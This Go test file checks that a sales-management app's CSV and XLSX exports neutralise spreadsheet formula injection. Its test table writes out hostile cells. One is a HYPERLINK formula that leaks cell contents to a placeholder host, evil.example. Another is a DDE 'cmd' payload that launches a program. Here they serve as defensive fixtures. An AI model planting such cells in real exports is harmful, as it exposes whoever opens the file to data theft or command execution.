package storage

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"path/filepath"
	"reflect"
	"salesdesk/data"
	"slices"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"
)

// hostileCells are cells a spreadsheet would run, with the ones that must stay as they are.
var hostileCells = []struct{ in, out string }{
	{`=HYPERLINK("http://evil.example/?q="&A1,"点我")`, `'=HYPERLINK("http://evil.example/?q="&A1,"点我")`},
	{`+cmd|' /C calc'!A0`, `'+cmd|' /C calc'!A0`},
	{`@SUM(1)`, `'@SUM(1)`},
	{`-1+1`, `'-1+1`},
	{`-cmd`, `'-cmd`},
	{`-`, `'-`},
	{"\t=1+1", "'\t=1+1"},
	{"\r=1+1", "'\r=1+1"},
	{`+86 138 0013 8000`, `'+86 138 0013 8000`},
	{`-2.5e3`, `'-2.5e3`},
	{`'=already quoted`, `''=already quoted`},
	{`''@twice`, `'''@twice`},
	// Plain numbers and ordinary text stay as they are.
	{`-1200`, `-1200`},
	{`-1,200.50`, `-1,200.50`},
	{`+5`, `+5`},
	{`'plain quote`, `'plain quote`},
	{`'-1200`, `'-1200`},
	{`北京=科技`, `北京=科技`},
	{``, ``},
}

func TestNeutraliseCSVCell(t *testing.T) {
	for _, tc := range hostileCells {
		if got := data.NeutraliseCSVCell(tc.in); got != tc.out {
			t.Errorf("NeutraliseCSVCell(%q) = %q, want %q", tc.in, got, tc.out)
		}
		if got := data.UnneutraliseCSVCell(tc.out); got != tc.in {
			t.Errorf("UnneutraliseCSVCell(%q) = %q, want %q", tc.out, got, tc.in)
		}
	}
}

func FuzzNeutraliseCSVCell(f *testing.F) {
	for _, tc := range hostileCells {
		f.Add(tc.in)
	}
	f.Fuzz(func(t *testing.T, s string) {
		n := data.NeutraliseCSVCell(s)
		if runsAsFormula(n) {
			t.Fatalf("%q is written %q, which a spreadsheet runs", s, n)
		}
		if back := data.UnneutraliseCSVCell(n); back != s {
			t.Fatalf("%q → %q → %q", s, n, back)
		}
	})
}

// runsAsFormula tells a cell that a spreadsheet would evaluate.
func runsAsFormula(cell string) bool {
	return cell != "" && strings.IndexByte(data.NeutralisedStarts, cell[0]) >= 0 && !data.IsPlainNumber(cell)
}

// hostileFixture is a file whose free-text fields hold formulas: names, contacts, notes, tags, deal
// titles, follow-up topics, a team member's name.
// The CSV writer in CRLF mode drops a cell's CRs (as Excel's own files do), so the round trip is
// made without them.
func hostileFixture(t *testing.T, withCR bool) *Store {
	t.Helper()
	s := newStore(t, nil)
	mgr := mustMember(t, s, "@王经理", data.MemberManager)
	var first data.Customer
	for i, tc := range hostileCells[:12] {
		if !withCR {
			tc.in = strings.ReplaceAll(tc.in, "\r", "")
		}
		c := mustCreate(t, s, company(tc.in+" 公司"+string(rune('A'+i)), func(c *data.Customer) {
			c.Notes = tc.in
			c.OwnerID = mgr.ID
			// A tag list is split at , | and ; on import.
			c.Tags = []string{strings.NewReplacer(",", " ", "|", " ", ";", " ").Replace(tc.in)}
			c.Contacts = []data.Contact{{Name: tc.in, Phone: fmt.Sprintf("+86 138 0013 80%02d", i), Title: tc.in}}
		}))
		if i == 0 {
			first = c
		}
		mustLog(t, s, data.FollowUp{CustomerID: c.ID, Date: gday(2026, 3, 2), Method: data.MethodVisit, ByID: mgr.ID, Contact: tc.in,
			Topic: tc.in, Feedback: tc.in, Action: tc.in}, data.NextPlan{})
		if _, err := s.CreateOpportunity(stActor, data.Opportunity{CustomerID: c.ID, Title: tc.in + " 项目", OwnerID: mgr.ID,
			Summary: tc.in, Competition: tc.in, Amount: data.AmountFromYuan(-1200 + 3000*int64(i+1))}); err != nil {
			t.Fatal(err)
		}
	}
	// A name that is a formula as a whole, without the suffix the others carry.
	if _, err := s.CreateOpportunity(stActor, data.Opportunity{CustomerID: first.ID, Title: "=1+1", OwnerID: mgr.ID}); err != nil {
		t.Fatal(err)
	}
	return s
}

// assertNoFormulaCells parses a CSV file and fails on any cell a spreadsheet would run; it also
// wants the neutralising quote seen at least once, so that the fixture reached the writer.
func assertNoFormulaCells(t *testing.T, name string, raw []byte) {
	t.Helper()
	r := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(raw, data.BomUTF8)))
	r.FieldsPerRecord = -1
	recs, err := r.ReadAll()
	if err != nil {
		t.Fatalf("%s: %v", name, err)
	}
	quoted := 0
	for i, rec := range recs {
		for j, c := range rec {
			if runsAsFormula(c) {
				t.Errorf("%s: row %d column %d is a formula: %q", name, i+1, j+1, c)
			}
			if strings.HasPrefix(c, "'") && runsAsFormula(strings.TrimLeft(c, "'")) {
				quoted++
			}
		}
	}
	if quoted == 0 {
		t.Errorf("%s: no cell was neutralised; the fixture did not reach the writer", name)
	}
}

// TestCSVExportsNeutraliseFormulas runs the hostile file through every CSV the data package writes:
// the three lists in both languages and the rejected rows.
func TestCSVExportsNeutraliseFormulas(t *testing.T) {
	s := hostileFixture(t, true)
	for _, lang := range []string{"zh", "en"} {
		for _, w := range []data.ExportWhat{data.ExportCustomers, data.ExportOpportunities, data.ExportFollowUps} {
			assertNoFormulaCells(t, string(w)+" "+lang, exportBytes(t, s, data.ExportOptions{Format: "csv", What: w, Lang: lang}))
		}
	}
	// Rejected rows: each row names a grade that does not exist, and its cells are hostile.
	var in bytes.Buffer
	in.WriteString("客户名称,备注,等级\n")
	cw := csv.NewWriter(&in)
	for _, tc := range hostileCells[:12] {
		_ = cw.Write([]string{tc.in + "X", tc.in, "Z"})
	}
	cw.Flush()
	path := filepath.Join(t.TempDir(), "bad.csv")
	writeFile(t, path, in.Bytes())
	rep := importPath(t, s, path, data.ImportOptions{DryRun: true})
	if len(rep.Rejected) != 12 {
		t.Fatalf("rejected %d rows, want 12", len(rep.Rejected))
	}
	var out bytes.Buffer
	if err := rep.WriteRejects(&out); err != nil {
		t.Fatal(err)
	}
	assertNoFormulaCells(t, "rejected rows", out.Bytes())

	// WriteExcelCSV, which the command line's lists and reports use.
	var rows [][]string
	for _, tc := range hostileCells {
		rows = append(rows, []string{tc.in})
	}
	out.Reset()
	if err := data.WriteExcelCSV(&out, []string{"=header"}, rows); err != nil {
		t.Fatal(err)
	}
	assertNoFormulaCells(t, "WriteExcelCSV", out.Bytes())

	// A CR the writer drops leaves no quote behind on a cell that needs none without it.
	out.Reset()
	if err := data.WriteExcelCSV(&out, []string{"h"}, [][]string{{"\rabc"}, {"\r=1"}}); err != nil {
		t.Fatal(err)
	}
	if got, want := out.String(), "\uFEFFh\r\nabc\r\n'=1\r\n"; got != want {
		t.Errorf("cells with CRs: %q, want %q", got, want)
	}
}

// TestCSVFormulaCellsRoundTrip exports the hostile file as CSV and imports it into an empty one: every
// card, deal and follow-up reads back as it was, the neutralising quotes taken off again.
func TestCSVFormulaCellsRoundTrip(t *testing.T) {
	s := hostileFixture(t, false)
	for _, lang := range []string{"zh", "en"} {
		t.Run(lang, func(t *testing.T) {
			s2 := newStore(t, nil)
			mustMember(t, s2, "@王经理", data.MemberManager)
			dir := t.TempDir()
			for _, w := range []data.ExportWhat{data.ExportCustomers, data.ExportOpportunities, data.ExportFollowUps} {
				p := filepath.Join(dir, string(w)+".csv")
				writeFile(t, p, exportBytes(t, s, data.ExportOptions{Format: "csv", What: w, Lang: lang}))
				rep := importPath(t, s2, p, data.ImportOptions{})
				if len(rep.Rejected) > 0 {
					t.Fatalf("%s: rejected %+v", w, rep.Rejected)
				}
			}
			if want, got := exportedCards(t, s), exportedCards(t, s2); !reflect.DeepEqual(want, got) {
				for name := range want {
					if !reflect.DeepEqual(want[name], got[name]) {
						t.Errorf("card %q:\n got %+v\nwant %+v", name, got[name], want[name])
					}
				}
				if len(want) != len(got) {
					t.Errorf("%d cards, want %d", len(got), len(want))
				}
			}
			if want, got := exportedDeals(t, s), exportedDeals(t, s2); !reflect.DeepEqual(want, got) {
				t.Errorf("deals:\n got %+v\nwant %+v", got, want)
			}
			if want, got := exportedFollowUps(t, s), exportedFollowUps(t, s2); !slices.Equal(want, got) {
				t.Errorf("follow-ups:\n got %q\nwant %q", got, want)
			}
		})
	}
}

// TestXLSXFormulaCellsAreText: the workbook export writes the same text as string cells, verbatim and
// without a formula, so a spreadsheet shows it and runs nothing.
func TestXLSXFormulaCellsAreText(t *testing.T) {
	s := hostileFixture(t, true)
	raw := exportBytes(t, s, data.ExportOptions{Format: "xlsx", What: data.ExportAll, Lang: "zh"})
	f, err := excelize.OpenReader(bytes.NewReader(raw))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	seen := 0
	for _, sheet := range f.GetSheetList() {
		rows, err := f.GetRows(sheet)
		if err != nil {
			t.Fatal(err)
		}
		for i, row := range rows {
			for j, v := range row {
				cell, _ := excelize.CoordinatesToCellName(j+1, i+1)
				if formula, _ := f.GetCellFormula(sheet, cell); formula != "" {
					t.Errorf("%s!%s has the formula %q", sheet, cell, formula)
				}
				if !runsAsFormula(v) {
					continue
				}
				seen++
				if strings.HasPrefix(v, "'") {
					t.Errorf("%s!%s = %q: the workbook needs no quote", sheet, cell, v)
				}
				if typ, _ := f.GetCellType(sheet, cell); typ != excelize.CellTypeSharedString && typ != excelize.CellTypeInlineString {
					t.Errorf("%s!%s = %q is not a string cell (type %v)", sheet, cell, v, typ)
				}
			}
		}
	}
	if seen < 20 {
		t.Errorf("only %d formula-like cells in the workbook; the fixture did not reach it", seen)
	}
}
